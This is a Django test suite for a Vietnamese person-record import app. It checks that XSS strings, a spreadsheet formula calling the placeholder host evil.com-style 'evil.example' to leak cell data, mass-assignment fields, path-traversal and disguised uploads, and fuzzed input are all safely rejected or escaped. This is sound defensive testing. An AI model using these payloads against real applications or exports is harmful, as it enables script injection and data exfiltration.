"""Hostile input: random text and bytes into every parser of the import (property-based), script
in stored text, formulas in exported cells, fields the caller may not set (mass assignment),
disguised, oversized and path-like uploads. Each answer is a clear 4xx or harmless data."""

import datetime as dt
import hashlib
import io
import uuid

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from django.utils.html import escape
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from rest_framework.test import APIClient

from conftest import COMMUNE_A, COMMUNE_B
from hoanhap.api.models import ApiAction
from hoanhap.api.services import issue_token
from hoanhap.imports import parsing, reading, services
from hoanhap.imports.models import ImportBatch
from hoanhap.people.models import Person

SCRIPT = '<script>alert("x")</script>'
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm")'

cells = st.one_of(
    st.none(),
    st.text(max_size=40),
    st.integers(min_value=-(10**15), max_value=10**15),
    st.floats(allow_nan=True, allow_infinity=True),
    st.dates(min_value=dt.date(1, 1, 1)),
    st.from_regex(r"\d{1,2}[/.\-]\d{1,2}[/.\-]\d{4}", fullmatch=True),
    st.from_regex(r"\d{4}-\d{1,2}-\d{1,2}", fullmatch=True),
)


@given(cells)
def test_a_birth_cell_is_a_date_a_year_or_a_vietnamese_error(value):
    try:
        day, year = parsing.birth(value)
    except ValidationError as exc:
        assert exc.messages[0].startswith("Ngày ")
        return
    assert day is None or (isinstance(day, dt.date) and day.year == year)
    assert year is None or isinstance(year, int)


@given(cells)
def test_a_sex_cell_is_male_female_or_a_vietnamese_error(value):
    try:
        assert parsing.sex(value) in ("male", "female")
    except ValidationError as exc:
        assert "Giới tính" in exc.messages[0]


@given(cells)
def test_a_national_id_cell_is_text_without_spaces_or_dots(value):
    text = parsing.national_id(value)
    assert isinstance(text, str) and not any(c in text for c in " .\t")


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=3000), st.sampled_from(["ds.xlsx", "ds.csv", "ds.XLSX", "../../ds.csv", "ds.exe"]))
def test_any_bytes_under_any_name_are_rows_or_a_vietnamese_refusal(content, name):
    try:
        rows = list(reading.iter_rows(content, name))
    except ValidationError as exc:
        assert any(word in exc.messages[0] for word in ("tệp", "Tệp")), exc.messages
        return
    assert all(isinstance(number, int) and isinstance(row, list) for number, row in rows)


@pytest.fixture
def hostile(officer_a, make_person):
    return make_person(officer_a, full_name=SCRIPT, current_address=ATTRIBUTE, occupation=FORMULA)


def test_stored_script_is_shown_as_text(login, officer_a, hostile):
    client = login(officer_a)
    pages = [
        client.get(reverse("people:detail", args=[hostile.uuid])),
        client.get(reverse("people:search"), {"q": "alert"}),
        client.get(reverse("cases:lists")),
    ]
    for page in pages:
        body = page.content.decode()
        assert page.status_code == 200
        assert "<script>alert" not in body and "<img src=x" not in body
    assert "&lt;script&gt;alert" in pages[0].content.decode()


def test_exported_cells_never_start_a_formula(login, officer_a, make_person):
    make_person(officer_a, full_name=FORMULA, birth_date=dt.date(1991, 2, 3))
    client = login(officer_a)
    workbook = load_workbook(io.BytesIO(client.get(reverse("people:export")).content), read_only=True)
    values = [
        v for row in workbook.worksheets[0].iter_rows(values_only=True) for v in row if isinstance(v, str)
    ]
    assert any(FORMULA in v for v in values)
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@")]
    csv_text = client.get(reverse("people:export"), {"format": "csv"}).content.decode("utf-8-sig")
    assert f"'{FORMULA}".replace('"', '""') in csv_text


def test_the_api_ignores_fields_the_caller_may_not_set(officer_a, sysadmin, units):
    _token, secret = issue_token(
        sysadmin, user=officer_a, name="Hệ thống thử", actions=list(ApiAction.values), days=30
    )
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {secret}")
    planted = uuid.uuid4()
    response = client.post(
        "/api/v1/people/",
        {
            "full_name": "Hồ Văn Gán",
            "sex": "male",
            "birth_date": "1994-08-12",
            "commune": COMMUNE_B,
            "province": "66",
            "uuid": str(planted),
            "version": 99,
            "merged_into": str(uuid.uuid4()),
            "is_superuser": True,
        },
        format="json",
    )
    assert response.status_code == 201, response.content  # unknown and read-only fields are ignored
    person = Person.objects.get()
    assert (person.commune_id, person.province_id, person.version) == (COMMUNE_A, "40", 1)
    assert person.uuid != planted and person.merged_into_id is None


def test_the_web_form_ignores_fields_it_does_not_show(login, officer_a, make_person):
    person = make_person(officer_a)
    form = {
        "full_name": person.full_name,
        "birth_date": "09/05/1990",
        "sex": "male",
        "nationality": "Việt Nam",
        "stable_residence": "permanent",
        "prior_rehab_count": "0",
        "version": "1",
        "commune": COMMUNE_B,
        "commune_id": COMMUNE_B,
        "province_id": "66",
        "created_by": "1",
    }
    assert login(officer_a).post(reverse("people:edit", args=[person.uuid]), form).status_code == 302
    person.refresh_from_db()
    assert (person.commune_id, person.province_id, person.version) == (COMMUNE_A, "40", 2)


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("danh-sach.xlsx", b"\x89PNG\r\n\x1a\n" + b"0" * 200, "Không đọc được tệp"),  # a picture renamed
        ("danh-sach.exe", b"MZ\x90\x00", "Chỉ nhận tệp .xlsx hoặc .csv"),
        ("../../../etc/passwd", b"root:x:0:0:root:/root:/bin/sh", "Chỉ nhận tệp .xlsx hoặc .csv"),
    ],
)
def test_uploads_are_checked_for_type(login, officer_a, name, content, says):
    upload = io.BytesIO(content)
    upload.name = name
    response = login(officer_a).post(reverse("imports:upload"), {"file": upload})
    assert response.status_code == 400 and says in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_an_oversized_upload_is_refused_before_it_is_read(login, officer_a, monkeypatch):
    monkeypatch.setattr(services, "MAX_BYTES", 1000)
    upload = io.BytesIO(b"Ho ten,Nam sinh\n" + b"Le Van A,1990\n" * 200)
    upload.name = "lon.csv"
    response = login(officer_a).post(reverse("imports:upload"), {"file": upload})
    assert response.status_code == 400 and "quá lớn" in response.content.decode()


GOOD_CSV = "Họ tên,Năm sinh,Giới tính\nLê Văn Tên,1990,Nam\n".encode()


def _upload(client, name):
    upload = io.BytesIO(GOOD_CSV)
    upload.name = name
    return client.post(reverse("imports:upload"), {"file": upload})


# A browser escapes a line break in a file name (%0D%0A, HTML's multipart/form-data encoding); the
# test client writes it as it is, which ends the header there: that case has its own test below.
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(min_size=1, max_size=200).filter(lambda name: "\r\n" not in name))
def test_a_file_name_is_only_ever_data(login, officer_a, name):
    """Whatever the name (slashes, dots, control characters), a good CSV is read from memory and
    stored in the database; the name is kept as a name (no path in it, 200 characters at most) and
    shown as text, never used as a path."""
    ImportBatch.objects.all().delete()
    client = login(officer_a)
    response = _upload(client, name + ".csv")
    batch = ImportBatch.objects.get()
    assert (response.status_code, response["Location"]) == (302, reverse("imports:batch", args=[batch.uuid]))
    assert batch.file_sha256 == hashlib.sha256(GOOD_CSV).hexdigest()
    assert (batch.status, batch.headers, batch.total_rows) == (
        "uploaded",
        ["Họ tên", "Năm sinh", "Giới tính"],
        1,
    )
    stored = batch.file_name
    assert 0 < len(stored) <= 200 and not {"/", "\\"} & set(stored) and stored.isprintable()
    page = client.get(reverse("imports:batch", args=[batch.uuid]))
    assert page.status_code == 200 and escape(stored) in page.content.decode()


def test_a_file_name_cut_by_a_line_break_is_refused_and_nothing_is_stored(login, officer_a):
    """The header ends at the line break: the server reads the name only up to it, without its
    extension, and refuses it."""
    response = _upload(login(officer_a), "danh\r\nsach.csv")
    assert response.status_code == 400 and "Chỉ nhận tệp .xlsx hoặc .csv." in response.content.decode()
    assert not ImportBatch.objects.exists()
